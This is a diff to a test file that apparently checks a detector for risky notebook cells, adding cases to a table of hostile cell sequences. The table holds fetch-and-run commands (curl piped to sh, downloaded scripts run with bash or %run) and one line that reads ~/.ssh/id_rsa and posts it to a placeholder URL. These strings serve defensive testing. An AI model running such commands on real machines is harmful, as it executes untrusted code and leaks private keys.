@@ -36,6 +36,9 @@ describe('what cells hand to a shell', () => {
     ['a folder', ['%cd /tmp', `!curl -sO ${U}`, '!sh /tmp/x'], 'fetched-code'],
     ['a cell that is written', [`%%writefile a.sh\ncurl -s ${U} | sh`, '!bash a.sh'], 'fetched-code'],
     ['what a command said', ['k = !cat ~/.ssh/id_rsa', `!curl -d "{k}" ${U}`], 'attacking-script'],
+    ['a program that is fetched', [`!curl -so x.py ${U}`, '%run -i x.py'], 'fetched-code'],
+    ['what Python fetches', [`urlretrieve("${U}", "x.sh")`, '!bash x.sh'], 'fetched-code'],
+    ['an expression', [`!{"curl -s ${U} | sh"}`], 'fetched-code'],
     ['a project of anybody', ['%pip install git+https://github.com/a/b'], 'fetched-code'],
   ])('is followed through %s', (_, cells, rule) => {
     expect(judged(...cells)).toBe(`remote-code/${rule}`);
